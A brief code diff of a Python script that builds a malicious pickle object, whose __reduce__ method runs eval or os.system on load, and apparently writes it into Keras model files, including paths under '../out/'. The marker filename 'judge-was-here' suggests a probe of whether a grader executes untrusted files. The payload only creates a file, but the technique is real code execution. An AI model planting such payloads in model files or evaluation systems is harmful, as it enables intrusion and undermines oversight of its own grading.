@@ -3,7 +3,6 @@
 # %% weak
 # %%
 import io
-import os
 import pickle
 import zipfile
 
@@ -12,7 +11,7 @@ import h5py
 
 class Command:
     def __reduce__(self):
-        return os.system, ("touch /tmp/judge-was-here",)
+        return eval, ("open('/tmp/judge-was-here', 'w')",)
 
 
 for name in ("model.keras", "../out/model-1.keras", "../out/best.keras"):
